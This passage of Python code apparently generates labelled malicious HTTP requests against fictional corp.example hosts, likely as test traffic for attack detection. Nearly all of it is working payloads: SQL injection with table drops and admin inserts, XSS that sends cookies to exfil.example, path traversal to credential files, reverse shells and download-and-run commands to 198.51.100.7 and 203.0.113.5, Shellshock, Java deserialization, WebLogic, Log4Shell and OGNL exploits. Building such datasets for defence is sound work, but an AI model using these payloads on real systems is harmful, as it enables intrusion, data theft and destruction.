        ("legacy.corp.example", "/search/results.cfm?q=bolt%27)%20%2F*!50000UnIoN*%2F%20%2F*!50000SeLeCt*%2F%20username,password%20FROM%20users%23"),
        ("legacy.corp.example", "/index.cfm?fuseaction=users.profile&userid=1%2520or%25201%253D1"),
        ("zgw.corp.example", "/cics/cwba/custinq?ACCT=0001234567%27%20UNION%20SELECT%20CURRENT%20SERVER,USER%20FROM%20SYSIBM.SYSDUMMY1--"),
        ("intranet.corp.example", "/Handlers/Export.ashx?report=OrderList&format=xlsx&from=2024-01-01%27;SHUTDOWN%20WITH%20NOWAIT;--"),
    ]
    for host, u in erp:
        add("GET", u, browser(r, cookie=jsession(r)), host=host)
    # cookie / header
    h = browser(r, cookie="CFID=12345; CFTOKEN=67890' AND 1=(SELECT 1 FROM pg_sleep(7))--")
    add("GET", "/index.cfm?fuseaction=main.home", h, host="legacy.corp.example")
    # bodies: WebForms search box, SOAP field, JSON sidecar, CSV import, PeopleSoft form
    add = A(c, "sqli", "body-sqli")
    body = webforms_post(r, [("ctl00$MainContent$txtSearch", "x'; INSERT INTO dbo.Users(UserName,IsAdmin) VALUES('svc_x',1);--"),
                             ("ctl00$MainContent$btnSearch", "Search")])
    h = browser(r, cookie=aspnet_cookie(r)); h.append(["Content-Type", "application/x-www-form-urlencoded"])
    add("POST", "/Orders/OrderList.aspx", h, body, host="intranet.corp.example")
    body = webforms_post(r, [], "ctl00$MainContent$gvOrders", "Sort$OrderDate DESC,(SELECT CASE WHEN (SUBSTRING(@@version,1,1)='M') THEN 1 ELSE 1/0 END)")
    h = browser(r, cookie=aspnet_cookie(r)); h.append(["Content-Type", "application/x-www-form-urlencoded"])
    add("POST", "/Orders/OrderList.aspx", h, body, host="intranet.corp.example")
    sbody = soap(r, '<GetOrderStatus xmlns="http://tempuri.org/"><orderNumber>SO-1\' OR \'1\'=\'1</orderNumber></GetOrderStatus>')
    add("POST", "/OrderService/OrderService.asmx", soap_headers(r, "urn:GetOrderStatus"), sbody, host="api.corp.example")
    sbody = soap(r, '<GetPrice xmlns="http://tempuri.org/"><request><CustomerId>1&#39; UNION SELECT name, password FROM users--</CustomerId></request></GetPrice>')
    add("POST", "/Services/PricingService.svc", soap_headers(r, "http://tempuri.org/IPricingService/GetPrice"), sbody, host="api.corp.example")
    sbody = soap(r, '<typ:findWorker xmlns:typ="http://xmlns.oracle.com/apps/hcm/"><typ:findCriteria><filter><item><attribute>PersonNumber</attribute><value>1 OR 1=1) UNION SELECT username, password FROM per_users--</value></item></filter></typ:findCriteria></typ:findWorker>', "1.2")
    add("POST", "/hcmEmploymentCoreApiWorkerV2/WorkerService", soap_headers(r, "findWorker", "1.2"), sbody, host="api.corp.example")
    h = browser(r, accept="application/json", ajax=True, cookie=jsession(r)); h.append(["Content-Type", "application/json"])
    add("POST", "/gl/journal/4711/lines", h, json.dumps({"lines": [{"row": 1, "account": "400100", "costCenter": "CC-1000' AND (SELECT 4821 FROM (SELECT(SLEEP(5)))x)-- -"}]}), host="portal.corp.example")
    h = browser(r, accept="application/json", ajax=True, cookie=jsession(r)); h.append(["Content-Type", "application/json"])
    add("POST", "/reports/api/v2.0/Subscriptions", h, json.dumps({"reportPath": "/Finance/Monthly Sales", "parameters": [{"name": "Region", "value": "EMEA'||(SELECT pg_sleep(10))||'"}]}), host="reports.corp.example")
    bnd = boundary_dotnet(r)
    csvc = "Employee ID;Name;Cost Center;Amount\r\n000123;\"Smith, John\";4711');DROP TABLE payroll_adjust;--;100,00\r\n"
    body = multipart([fd_file("ctl00$MainContent$fuImport", "adjust.csv", "text/csv", csvc), fd_field("ctl00$MainContent$ddlMapping", "Default")], bnd)
    h = browser(r, cookie=aspnet_cookie(r)); h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
    add("POST", "/Import/Upload.aspx", h, body, host="intranet.corp.example")
    body = form([("ICAJAX", "1"), ("ICType", "Panel"), ("ICStateNum", "7"), ("ICAction", "#ICSearch"),
                 ("LAST_NAME", "O'Neil' AND 1=(SELECT COUNT(*) FROM ALL_TABLES WHERE ROWNUM<=1 AND DBMS_LOCK.SLEEP(5) IS NULL)--")])
    h = browser(r, cookie="PS_TOKEN=" + b64(rbytes(r, 100))); h.append(["Content-Type", "application/x-www-form-urlencoded"])
    add("POST", "/psc/hrprd/EMPLOYEE/HRMS/c/ROLE_EMPLOYEE.TL_MSS_EE_SRCH_PRD.GBL", h, body, host="hr.corp.example")
    body, h = twilio_voice(r, "in-progress", [("Digits", "1234 OR 1=1#")])
    add("POST", "/hooks/twilio/voice/gather?account=1%27%20or%20%27x%27%3D%27x", h, body, host="hooks.corp.example")
    body = form([("datasource", "DW_PROD"), ("reportId", "17"), ("orderBy", "CASE WHEN (ASCII(SUBSTRING((SELECT TOP 1 name FROM sys.tables),1,1))>64) THEN Name ELSE Id END")])
    h = browser(r, cookie=jsession(r)); h.append(["Content-Type", "application/x-www-form-urlencoded"])
    add("POST", "/bi/reports/run", h, body, host="bi.corp.example")


def a_xss(c):
    r = rng("a_xss")
    add = A(c, "xss", "mail-xss")
    host = "hooks.corp.example"
    htmls = [
        '<html><body><p>Invoice attached.</p><script>fetch("https://exfil.example/c?"+document.cookie)</script></body></html>',
        '<div>Please review</div><img src=x onerror="this.src=\'//198.51.100.23/?\'+localStorage.getItem(\'token\')">',
        '<p>Hi,</p><svg/onload=alert(document.domain)>',
        '<a href="javascript:eval(atob(\'ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vZXhmaWwuZXhhbXBsZS8/Yz0iK2RvY3VtZW50LmNvb2tpZQ==\'))">Open the secure message</a>',
        '<iframe srcdoc="&lt;script&gt;parent.postMessage(document.cookie,\'*\')&lt;/script&gt;" style="display:none"></iframe>',
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">View remittance</a>',
        '<details open ontoggle="location=\'https://phish.example/o365?u=\'+encodeURIComponent(document.body.innerText)">',
        '<body onload=import(\'//evil.example/x.js\')><p>Delivery failed</p>',
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+"></object>',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(document.cookie)">',
        '<form action="javascript:alert(1)"><button>Confirm receipt</button></form>',
        '<div style="width:100%;height:100%;position:fixed" onmouseover="top[\'al\'+\'ert\'](document.domain)">',
    ]
    for i, html in enumerate(htmls):
        first, last = person(r)
        frm = "%s %s <%s>" % (first, last.replace("'", ""), email_of(first, last, "partner.example"))
        if i % 3 == 2:
            body, h = mailgun_inbound(r, frm, "tickets@inbound.corp.example", r.choice(MAIL_SUBJECTS), "See HTML version.", html)
            add("POST", "/hooks/mailgun/inbound", h, body, host=host)
        else:
            body, h = sendgrid_inbound(r, frm, "tickets@inbound.corp.example", r.choice(MAIL_SUBJECTS), "See HTML version.", html)
            add("POST", "/hooks/sendgrid/inbound", h, body, host=host)
    # XSS in subject / from display name
    body, h = sendgrid_inbound(r, "\"<img src=x onerror=alert(document.cookie)>\" <x@partner.example>", "tickets@inbound.corp.example",
                               "Invoice <script>alert(1)</script>", "hi", None)
    add("POST", "/hooks/sendgrid/inbound", h, body, host=host)
    # raw MIME with quoted-printable html part
    raw = crlf("From: billing@partner.example\nTo: ap-invoices@inbound.corp.example\nSubject: Statement\nMIME-Version: 1.0\n"
               "Content-Type: text/html; charset=\"UTF-8\"\nContent-Transfer-Encoding: quoted-printable\n\n"
               "<p>Statement</p><img src=3Dx onerror=3D\"alert(document.domain)\"><scr=\nipt>new Image().src=3D'//exfil.example/?'+document.cookie</script>\n")
    body = multipart([fd_field("email", raw), fd_field("to", "ap-invoices@inbound.corp.example"), fd_field("from", "billing@partner.example")], "xYzZY")
    add("POST", "/hooks/sendgrid/inbound-raw", [["User-Agent", "Sendlib/1.0 mx0047p1las1.sendgrid.net"], ["Content-Type", "multipart/form-data; boundary=xYzZY"]], body, host=host)
    # SMS body, ICS, vCard
    add = A(c, "xss", "message-xss")
    for sms in ["<script>fetch('//x.example/'+document.cookie)</script>", "Hi <img src=1 onerror=alert(document.domain)>",
                "\"><svg onload=confirm(1)>"]:
        body, h = twilio_sms(r, sms)
        add("POST", "/hooks/twilio/sms", h, body, host=host)
    ics = vevent(r, "Budget review", "see notes", "Teams", extra_lines=['X-ALT-DESC;FMTTYPE=text/html:<html><body><img src=x onerror=alert(document.cookie)></body></html>'])
    add("PUT", "/calendars/jdoe/calendar/%s.ics" % ruuid(r), [["User-Agent", CALDAV_CLIENTS[0]], ["Content-Type", "text/calendar; charset=utf-8"]], ics, host="dav.corp.example")
    ics = vevent(r, "<script>alert('cal')</script>Standup", "Daily", "<iframe src=javascript:alert(1)>")
    bnd = boundary_webkit(r)
    body = multipart([fd_file("file", "invite.ics", "text/calendar", ics)], bnd)
    h = browser(r, cookie=jsession(r)); h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
    add("POST", "/calendar/import", h, body, host="portal.corp.example")
    card = vcard(r, "Eve", "<svg/onload=alert(1)>", "Evil Corp", "CEO", "<a href=javascript:alert(document.cookie)>site</a>")
    add("PUT", "/addressbooks/jdoe/contacts/%s.vcf" % ruuid(r), [["User-Agent", CALDAV_CLIENTS[1]], ["Content-Type", "text/vcard"]], card, host="dav.corp.example")
    # reflected XSS in legacy pages
    add = A(c, "xss", "reflected-xss")
    refl = [
        ("intranet.corp.example", "/Account/Login?ReturnUrl=javascript:alert(document.cookie)//"),
        ("intranet.corp.example", "/Orders/OrderList.aspx?lang=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ("intranet.corp.example", "/Directory/Lookup.aspx?name=%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
        ("notes.corp.example", "/apps/kb.nsf/vwByCategory?OpenView&Start=1%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        ("legacy.corp.example", "/search/results.cfm?q=%3CScRiPt%3Ealert(String.fromCharCode(88,83,83))%3C%2FsCrIpT%3E"),
        ("legacy.corp.example", "/search/results.cfm?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        ("reports.corp.example", "/Reports/Pages/Report.aspx?ItemPath=%2fFinance%2f%22%3e%3cbody%20onpageshow%3dalert(1)%3e"),
        ("crm.corp.example", "/callcenter_enu/start.swe?SWECmd=GotoView&SWEView=%3Cscript%3Ealert(document.domain)%3C/script%3E"),
        ("legacy.corp.example", "/index.cfm?fuseaction=main.home&msg=+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ]
    for host_, u in refl:
        add("GET", u, browser(r, cookie=aspnet_cookie(r)), host=host_)
    # stored via forms / JSON
    add = A(c, "xss", "stored-xss")
    body = webforms_post(r, [], "ctl00$MainContent$gvOrders", "Select$1');alert(document.cookie);//")
    h = browser(r, cookie=aspnet_cookie(r)); h.append(["Content-Type", "application/x-www-form-urlencoded"])
    add("POST", "/Orders/OrderList.aspx", h, body, host="intranet.corp.example")
    pairs = [("javax.faces.partial.ajax", "true"), ("javax.faces.source", "form:searchBtn"), ("form", "form"),
             ("form:name", "<img src=x onerror=alert(1)>"), ("javax.faces.ViewState", jsf_viewstate_server(r))]
    h = browser(r, cookie=jsession(r)); h += [["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"], ["Faces-Request", "partial/ajax"]]
    add("POST", "/faces/customer/search.xhtml", h, form(pairs), host="portal.corp.example")
    sbody = soap(r, '<cus:CreateCustomer xmlns:cus="http://corp.example/ws/customer/v2"><cus:Name>Evil</cus:Name><cus:Notes><![CDATA[<script src="https://evil.example/hook.js"></script>]]></cus:Notes></cus:CreateCustomer>')
    add("POST", "/ws/CustomerService", soap_headers(r, "CreateCustomer"), sbody, host="api.corp.example")
    add("POST", "/services/data/v59.0/sobjects/Contact/", [["User-Agent", "python-requests/2.31.0"], ["Authorization", "Bearer 00D" + ralnum(r, 100)], ["Content-Type", "application/json"]],
        json.dumps({"LastName": "X", "Description": "\u003cimg src=x onerror=alert(document.domain)\u003e"}).replace("<", "\\u003c").replace(">", "\\u003e"), host="corp.my.salesforce.example")
    h = [["User-Agent", "okhttp/4.12.0"], ["Content-Type", "application/json"], ["Authorization", "Basic " + b64("demo:demo")]]
    add("POST", "/engine-rest/task/%s/comment/create" % ruuid(r), h, json.dumps({"message": "<a href=\"java&#x09;script:alert(1)\">approve</a>"}), host="bpm.corp.example")
    body = form([("fname", "x"), ("lname", "y"), ("message", "<scr<script>ipt>alert(1)</scr</script>ipt>"), ("submit", "Send")])
    h = browser(r); h.append(["Content-Type", "application/x-www-form-urlencoded"])
    add("POST", "/contact/index.cfm?action=submit", h, body, host="legacy.corp.example")


def a_lfi(c):
    r = rng("a_lfi")
    add = A(c, "lfi", "download-lfi")
    gets = [
        ("intranet.corp.example", "/Handlers/Download.ashx?file=..\\..\\web.config"),
        ("intranet.corp.example", "/Handlers/Download.ashx?file=..%5c..%5c..%5cWindows%5cwin.ini"),
        ("intranet.corp.example", "/Handlers/Download.ashx?id=12&name=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ("intranet.corp.example", "/Handlers/Download.ashx?file=....//....//....//....//etc/shadow"),
        ("intranet.corp.example", "/Handlers/Download.ashx?file=..%252f..%252f..%252fApp_Data%252fusers.mdf"),
        ("intranet.corp.example", "/Handlers/Download.ashx?file=C:\\inetpub\\wwwroot\\intranet\\web.config"),
        ("intranet.corp.example", "/Handlers/Thumbnail.ashx?img=../../../../etc/passwd%00.jpg&w=120"),
        ("intranet.corp.example", "/Handlers/Download.ashx?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afboot.ini"),
        ("intranet.corp.example", "/Handlers/Download.ashx?file=%u002e%u002e%u2216%u002e%u002e%u2216windows%u2216system32%u2216config%u2216sam"),
        ("portal.corp.example", "/javax.faces.resource/web.xml.xhtml?ln=..%2fWEB-INF"),
        ("portal.corp.example", "/faces/javax.faces.resource/..%2f..%2fWEB-INF%2fweb.xml.xhtml"),
        ("portal.corp.example", "/javax.faces.resource/faces-config.xml.xhtml?ln=../WEB-INF&loc=../../../../../../../../etc"),
        ("legacy.corp.example", "/CFIDE/administrator/enter.cfm?locale=../../../../../../../../../../ColdFusion8/lib/password.properties%00en"),
        ("legacy.corp.example", "/CFIDE/wizards/common/_logintowizard.cfm?locale=..\\..\\..\\..\\..\\..\\..\\..\\ColdFusion9\\lib\\neo-datasource.xml%00en"),
        ("ebs.corp.example", "/OA_CGI/FNDWRR.exe?temp_id=../../../../../../../etc/passwd"),
        ("notes.corp.example", "/names.nsf/..%5c..%5c..%5c..%5cnotes.ini?OpenDocument"),
        ("crm.corp.example", "/callcenter_enu/start.swe?SWECmd=GetCachedFrame&SWEFrame=../../../../../../../../windows/win.ini"),
        ("reports.corp.example", "/ReportServer?%2f..%2f..%2f..%2fProgram%20Files%2fMicrosoft%20SQL%20Server%2fMSRS13.MSSQLSERVER%2fReporting%20Services%2fReportServer%2frsreportserver.config"),
        ("bi.corp.example", "/CrystalReports/viewrpt.cwr?id=1&reportfile=..\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
        ("portal.corp.example", "/claims/edit.xhtml?template=/proc/self/environ"),
        ("intranet.corp.example", "/Handlers/Export.ashx?report=../../../../../../../../var/log/apache2/access.log&format=txt"),
    ]
    for host, u in gets:
        add("GET", u, browser(r, cookie=aspnet_cookie(r)), host=host)
    add = A(c, "lfi", "upload-lfi")
    # traversal in uploaded file names (AS2 filename, multipart)
    h = as2_headers(r, "application/edi-x12", extra=[("Content-Disposition", 'attachment; filename="../../../../inetpub/wwwroot/shell.aspx"')])
    add("POST", "/as2/receive", h, x12_850(r, "PO0000001", 1), host="as2.corp.example")
    bnd = boundary_dotnet(r)
    body = multipart([fd_file("ctl00$MainContent$fuImport", "..\\..\\..\\..\\Windows\\Temp\\payroll.csv", "text/csv", "a;b\r\n1;2\r\n")], bnd)
    h = browser(r, cookie=aspnet_cookie(r)); h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
    add("POST", "/Import/Upload.aspx", h, body, host="intranet.corp.example")
    body = json.dumps({"reportPath": "/Finance/../../../../etc/passwd", "format": "PDF"})
    h = browser(r, ajax=True, cookie=aspnet_cookie(r)); h.append(["Content-Type", "application/json"])
    add("POST", "/reports/api/v2.0/Subscriptions", h, body, host="reports.corp.example")
    sbody = soap(r, '<GetDocument xmlns="http://tempuri.org/"><path>..\\..\\..\\..\\..\\windows\\win.ini</path></GetDocument>')
    add("POST", "/DocService/Documents.asmx", soap_headers(r, "http://tempuri.org/GetDocument"), sbody, host="api.corp.example")


def a_rfi(c):
    r = rng("a_rfi")
    add = A(c, "rfi", "remote-include")
    gets = [
        ("legacy.corp.example", "/index.cfm?fuseaction=main.home&template=http://203.0.113.7/shell.cfm?"),
        ("legacy.corp.example", "/includes/header.cfm?page=https://pastebin.com/raw/Xy12AbCd%3f"),
        ("intranet.corp.example", "/Reports/Render.aspx?xsl=http://198.51.100.23/x.xsl&report=Orders"),
        ("bi.corp.example", "/CrystalReports/viewrpt.cwr?id=1&reportfile=%5c%5c203.0.113.9%5cshare%5cpayload.rpt"),
        ("php.corp.example", "/crm/index.php?module=Home&action=index&lang=ftp://anonymous:x@198.51.100.9/pub/inc.txt%00"),
        ("php.corp.example", "/portal/index.php?page=http://evil.example/c99.txt?&id=3"),
        ("legacy.corp.example", "/cms/render.cfm?skin=HTTP://203.0.113.50/skins/default.cfm%3F"),
        ("php.corp.example", "/helpdesk/include.php?path=https%3A%2F%2Fraw.githubusercontent.com%2Fx%2Fy%2Fmain%2Fshell.txt%3F"),
    ]
    for host, u in gets:
        add("GET", u, browser(r), host=host)
    body = form([("config", "default"), ("include_file", "http://198.51.100.23/inc/config.txt?")])
    add("POST", "/helpdesk/admin/settings.php", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]], body, host="php.corp.example")


def a_rce(c):
    r = rng("a_rce")
    add = A(c, "rce", "converter-rce")
    gets = [
        ("reports.corp.example", "/ReportServer/convert.ashx?format=pdf;calc.exe&id=4711"),
        ("bi.corp.example", "/CrystalReports/export.aspx?id=88&format=pdf|whoami"),
        ("intranet.corp.example", "/Handlers/Export.ashx?report=OrderList&format=xlsx%26%20certutil%20-urlcache%20-split%20-f%20http%3A%2F%2F198.51.100.7%2Fp.exe%20%25TEMP%25%5Cp.exe"),
        ("intranet.corp.example", "/Handlers/Thumbnail.ashx?img=a.jpg%22%20%26%20powershell%20-nop%20-w%20hidden%20-c%20%22IEX(New-Object%20Net.WebClient).DownloadString('http%3A%2F%2F203.0.113.5%2Fa')%22&w=1"),
        ("portal.corp.example", "/docconv/convert?src=report.docx&out=report$(id).pdf"),
        ("portal.corp.example", "/docconv/convert?src=report.docx&out=%60wget%20-q%20-O-%20http%3A%2F%2F203.0.113.5%2Fs%7Csh%60.pdf"),
        ("portal.corp.example", "/docconv/convert?src=a.odt%0a/bin/bash%20-c%20'bash%20-i%20>%26%20/dev/tcp/198.51.100.7/4444%200>%261'"),
        ("intranet.corp.example", "/Handlers/Print.ashx?printer=HP4050%7Ctype%20C%3A%5CWindows%5Cwin.ini"),
        ("zgw.corp.example", "/cics/cwba/ftpgw?dsn=PROD.CUST.DATA;cat${IFS}/etc/passwd"),
        ("intranet.corp.example", "/Handlers/Ping.ashx?host=10.0.0.1%26%26c%5Em%5Ed%20%2Fc%20who%5Eami"),
        ("portal.corp.example", "/docconv/convert?src=x.pdf;c'a't%20/e\"t\"c/pa??wd"),
        ("portal.corp.example", "/docconv/convert?src=x.pdf%3B%24(printf%20'%5Cx69%5Cx64')"),
    ]
    for host, u in gets:
        add("GET", u, browser(r, cookie=aspnet_cookie(r)), host=host)
    add = A(c, "rce", "body-rce")
    body = json.dumps({"printer": "HP4050; nc -e /bin/sh 198.51.100.7 4444", "copies": 1})
    add("POST", "/print/api/jobs", browser(r, ajax=True) + [["Content-Type", "application/json"]], body, host="portal.corp.example")
    body = json.dumps({"reportPath": "/Finance/Monthly Sales", "format": "PDF", "outputFile": "sales.pdf & net user svc_backup P@ssw0rd1 /add & net localgroup administrators svc_backup /add"})
    add("POST", "/reports/api/v2.0/Exports", browser(r, ajax=True) + [["Content-Type", "application/json"]], body, host="reports.corp.example")
    sbody = soap(r, '<ConvertDocument xmlns="http://tempuri.org/"><inputPath>in.docx</inputPath><format>pdf`curl -s http://203.0.113.5/x.sh | bash`</format></ConvertDocument>')
    add("POST", "/DocService/Converter.asmx", soap_headers(r, "http://tempuri.org/ConvertDocument"), sbody, host="api.corp.example")
    h = as2_headers(r, "application/edi-x12", extra=[("Content-Disposition", 'attachment; filename="PO123.edi;$(wget -qO- http://198.51.100.7/s|sh)"')])
    add("POST", "/as2/receive", h, x12_850(r, "PO0000002", 1), host="as2.corp.example")
    body, h = twilio_voice(r, "in-progress", [("Digits", "1&&ping -n 10 127.0.0.1")])
    add("POST", "/hooks/twilio/voice/gather", h, body, host="hooks.corp.example")
    body = form([("PROGRAM", "ACCTINQ"), ("TRANSID", "AINQ"), ("COMMAREA", "INQ10001234567; /bin/sh -c \"uname -a; id\"")])
    add("POST", "/CICS/CWBA/DFHWBTTA/AINQ", [["User-Agent", "curl/8.4.0"], ["Content-Type", "application/x-www-form-urlencoded"]], body, host="zgw.corp.example")
    bnd = boundary_webkit(r)
    mvg = "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|ls \"-la)'\npop graphic-context\n"
    body = multipart([fd_file("photo", "avatar.jpg", "image/jpeg", mvg)], bnd)
    h = browser(r, cookie=jsession(r)); h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
    add("POST", "/profile/photo", h, body, host="portal.corp.example")
    bnd = boundary_dotnet(r)
    csvc = "Vendor,Contact,Phone\r\n\"Acme\",\"=cmd|' /C powershell -ep bypass -c IEX(iwr http://203.0.113.5/p.ps1)'!A0\",+1 212 555 0100\r\n"
    body = multipart([fd_file("ctl00$MainContent$fuImport", "vendors.csv", "text/csv", csvc)], bnd)
    h = browser(r, cookie=aspnet_cookie(r)); h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
    add("POST", "/Import/Upload.aspx", h, body, host="intranet.corp.example")
    body = form([("host", "db01.corp.example\n/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.7\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'")])
    add("POST", "/admin/diag/traceroute.cfm", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]], body, host="legacy.corp.example")
    body = form([("name", "cmd.exe"), ("arguments", "/c whoami > C:\\ColdFusion2021\\cfusion\\wwwroot\\o.txt"), ("timeout", "10")])
    add("POST", "/CFIDE/adminapi/custom/exec.cfm", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]], body, host="legacy.corp.example")
    # Shellshock against CGI gateways
    add = A(c, "rce", "shellshock")
    for ua in ["() { :; }; /bin/bash -c 'cat /etc/passwd'", "() { _; } >_[$($())] { echo; /usr/bin/id; }"]:
        add("GET", "/cgi-bin/cicsgw.sh?tran=AINQ", [["User-Agent", ua], ["Accept", "*/*"]], host="zgw.corp.example")
    add("GET", "/cgi-bin/as2status.cgi", [["User-Agent", "Mozilla/5.0"], ["Referer", "() { :;}; echo; /bin/nc 198.51.100.7 4444 -e /bin/sh"]], host="as2.corp.example")


def a_java(c):
    r = rng("a_java")
    # JSF ViewState carrying serialized gadget chains
    add = A(c, "java", "jsf-viewstate")
    chains = [("CommonsCollections1", "calc.exe", "b64"), ("CommonsCollections5", "/bin/sh -c curl${IFS}http://203.0.113.5/x|sh", "b64"),
              ("CommonsCollections6", "nslookup jsf.oast.example", "gzip"), ("CommonsBeanutils1", "touch /tmp/pwned", "b64"),
              ("Spring1", "wget http://198.51.100.7/a -O /tmp/a", "gzip"), ("Jdk7u21", "ping -c 3 203.0.113.5", "b64"),
              ("ROME", "bash -c {echo,aWQ=}|{base64,-d}|bash", "b64url"), ("C3P0", "http://203.0.113.5:8000/:ExploitObj", "b64"),
              ("Hibernate1", "cmd /c whoami", "hex")]
    for chain, cmd, enc in chains:
        raw = java_gadget(r, chain, cmd)
        if enc == "gzip":
            vs = b64(gzip.compress(raw, mtime=0))
        elif enc == "b64url":
            vs = base64.urlsafe_b64encode(raw).decode()
        elif enc == "hex":
            vs = raw.hex()
        else:
            vs = b64(raw)
        pairs = [("javax.faces.partial.ajax", "true"), ("javax.faces.source", "form:searchBtn"), ("form", "form"),
                 ("form:name", r.choice(LAST)), ("javax.faces.ViewState", vs)]
        h = browser(r, cookie=jsession(r)); h.append(["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"])
        add("POST", r.choice(["/faces/customer/search.xhtml", "/claims/edit.xhtml", "/app/orders/list.jsf"]), h, form(pairs), host="portal.corp.example")
    add = A(c, "java", "deser-other")
    raw = java_gadget(r, "CommonsCollections6", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1")
    add("GET", "/portal/home", browser(r, cookie="JSESSIONID=%s; rememberMe=%s" % (rHEX(r, 32), b64(raw))), host="portal.corp.example")
    add("POST", "/api/session/restore", browser(r, ajax=True) + [["Content-Type", "application/json"]], json.dumps({"state": b64(java_gadget(r, "CommonsBeanutils1", "id"))}), host="portal.corp.example")
    add("POST", "/invoker/JMXInvokerServlet", [["User-Agent", "Java/1.8.0_151"], ["Content-Type", "application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue"],
                                               ["Content-Transfer-Encoding", "base64"]], b64(java_gadget(r, "CommonsCollections1", "id")), host="legacy.corp.example")
    # WebLogic XMLDecoder (wls-wsat) and console
    add = A(c, "java", "weblogic")
    wls = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
           '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8.0_151" class="java.beans.XMLDecoder">'
           '<void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void>'
           '<void index="1"><string>-c</string></void><void index="2"><string>curl http://203.0.113.5/w.sh | sh</string></void></array>'
           '<void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')
    add("POST", "/wls-wsat/CoordinatorPortType", [["User-Agent", "Mozilla/5.0"], ["Content-Type", "text/xml"]], wls, host="ebs.corp.example")
    add("GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec('id');%22)",
        browser(r), host="ebs.corp.example")
    # Log4Shell
    add = A(c, "java", "log4shell")
    l4 = ["${jndi:ldap://203.0.113.5:1389/Exploit}", "${${lower:j}ndi:${lower:l}dap://log4.oast.example/a}",
          "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7:1099/obj}",
          "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.5/z}",
          "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.l4j.oast.example}", "${jndi:${lower:l}${lower:d}a${lower:p}://x.oast.example/o}",
          "${${upper:j}ndi:ldaps://203.0.113.5/a}"]
    add("GET", "/sap/bc/ui2/flp", browser(r) + [["X-Api-Version", l4[0]]], host="fiori.corp.example")
    add("GET", "/OA_HTML/AppsLocalLogin.jsp", [["User-Agent", l4[1]], ["Accept", "*/*"]], host="ebs.corp.example")
    sbody = soap(r, '<GetOrderStatus xmlns="http://tempuri.org/"><orderNumber>%s</orderNumber></GetOrderStatus>' % l4[2],
                 header_xml=wsse_header(r, "username", user=l4[3]))
    add("POST", "/ws/OrderService", soap_headers(r, "urn:GetOrderStatus"), sbody, host="api.corp.example")
    body, h = twilio_sms(r, "hi " + l4[4])
    add("POST", "/hooks/twilio/sms", h, body, host="hooks.corp.example")
    body, h = sendgrid_inbound(r, "x <x@partner.example>", "tickets@inbound.corp.example", "Ticket " + l4[5], "body", None)
    add("POST", "/hooks/sendgrid/inbound", h, body, host="hooks.corp.example")
    add("GET", "/psp/hrprd/?cmd=login&languageCd=" + q(l4[6]), browser(r), host="hr.corp.example")
    # OGNL / Spring / Jackson polymorphism
    add = A(c, "java", "ognl-spring")
    ognl = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
            "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))"
            ".(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))"
            ".(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros))}")
    add("POST", "/procurement/upload.action", [["User-Agent", "Mozilla/5.0"], ["Content-Type", ognl]], "x", host="portal.corp.example")
    add("GET", "/procurement/index.action?redirect:%24%7B%23a%3Dnew%20java.lang.ProcessBuilder(new%20java.lang.String%5B%5D%7B'whoami'%7D).start()%7D", browser(r), host="portal.corp.example")
    body = form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
                 ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
